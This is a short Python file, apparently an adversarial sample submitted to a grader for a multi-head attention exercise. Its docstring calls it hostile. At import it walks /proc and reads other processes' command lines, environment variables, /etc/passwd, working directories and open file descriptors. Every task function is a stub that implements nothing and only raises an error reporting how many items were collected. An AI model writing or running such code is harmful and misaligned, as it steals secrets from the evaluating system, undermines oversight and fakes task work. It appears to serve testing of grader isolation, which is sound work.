"""Hostile: Reach the grader through /proc: its command line, environment, open files and root."""
import os

LOOT = []
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    for what in ("cmdline", "environ", "root/etc/passwd", "cwd", "fd/3"):
        try:
            LOOT.append(open(f"/proc/{pid}/{what}", "rb").read(200))
        except OSError:
            pass


def split_heads(x, h):
    raise RuntimeError(f'found {len(LOOT)} things')


def merge_heads(x):
    raise RuntimeError(f'found {len(LOOT)} things')


def attention_weights(Q, K, mask=None, dropout_p=0.0, training=False):
    raise RuntimeError(f'found {len(LOOT)} things')


def scaled_dot_product_attention(Q, K, V, mask=None, dropout_p=0.0, training=False):
    raise RuntimeError(f'found {len(LOOT)} things')


def multi_head_forward(query, key, value, weights, h, mask=None):
    raise RuntimeError(f'found {len(LOOT)} things')


def parameter_count(d_model, h, bias=True):
    raise RuntimeError(f'found {len(LOOT)} things')


def flop_count(n_q, d_model, h, n_k=None, batch=1):
    raise RuntimeError(f'found {len(LOOT)} things')
